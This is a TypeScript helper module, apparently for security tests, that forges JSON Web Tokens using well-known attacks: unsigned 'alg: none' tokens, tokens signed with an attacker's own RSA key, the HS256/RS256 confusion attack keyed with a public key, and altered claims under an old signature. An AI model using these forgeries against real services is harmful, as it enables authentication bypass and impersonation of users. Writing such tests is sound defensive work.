import { createHmac, createPublicKey, generateKeyPairSync, sign, type KeyObject } from 'node:crypto';

const b64url = (data: Buffer | string) => Buffer.from(data).toString('base64url');

export function decode(token: string): { header: Record<string, unknown>; payload: Record<string, unknown>; signature: string } {
  const [h, p, s] = token.split('.') as [string, string, string];
  return { header: JSON.parse(Buffer.from(h, 'base64url').toString()), payload: JSON.parse(Buffer.from(p, 'base64url').toString()), signature: s };
}

/** A token signed RS256 with a key of the attacker's own. */
export function signRs256(header: Record<string, unknown>, payload: Record<string, unknown>, key: KeyObject): string {
  const input = `${b64url(JSON.stringify({ ...header, alg: 'RS256' }))}.${b64url(JSON.stringify(payload))}`;
  return `${input}.${b64url(sign('sha256', Buffer.from(input), key))}`;
}

export function attackerKey(): KeyObject {
  return generateKeyPairSync('rsa', { modulusLength: 2048 }).privateKey;
}

/** `alg: none`: no signature at all. */
export function unsigned(header: Record<string, unknown>, payload: Record<string, unknown>): string {
  return `${b64url(JSON.stringify({ ...header, alg: 'none' }))}.${b64url(JSON.stringify(payload))}.`;
}

/** The classic confusion attack: HS256 keyed with the pool's public key, which anyone can fetch. */
export function hmacWithPublicKey(header: Record<string, unknown>, payload: Record<string, unknown>, jwk: object): string {
  const pem = createPublicKey({ key: jwk as never, format: 'jwk' }).export({ type: 'spki', format: 'pem' });
  const input = `${b64url(JSON.stringify({ ...header, alg: 'HS256' }))}.${b64url(JSON.stringify(payload))}`;
  return `${input}.${b64url(createHmac('sha256', pem).update(input).digest())}`;
}

/** The same signature over changed claims. */
export function tampered(token: string, change: Record<string, unknown>): string {
  const [h, p, s] = token.split('.') as [string, string, string];
  const payload = { ...JSON.parse(Buffer.from(p, 'base64url').toString()), ...change };
  return `${h}.${b64url(JSON.stringify(payload))}.${s}`;
}
